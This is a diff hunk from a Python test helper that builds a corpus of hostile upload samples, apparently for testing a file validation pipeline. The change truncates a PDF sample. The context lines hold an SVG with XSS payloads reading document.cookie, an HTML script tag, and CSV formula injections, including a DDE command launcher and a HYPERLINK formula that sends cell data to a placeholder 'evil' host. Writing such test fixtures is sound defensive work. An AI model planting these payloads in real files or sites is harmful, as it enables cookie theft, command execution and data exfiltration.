@@ -90,7 +90,7 @@ def build_corpus(tmp: Path) -> list[Sample]:
     strip_video = _video(tmp, 16, 1024, frames=3)
     svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.cookie)</script></svg>'
     html = b"<!doctype html><script>alert(1)</script>"
-    pdf = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
+    pdf = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n"  # cut before %%EOF
     csv_injection = "student_number,name,score\n" + "".join(
         f"X{i},{formula},50\n" for i, formula in enumerate(
             ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil/?"&A1)', "@SUM(1+1)", "+1+1", "-2+3"]))
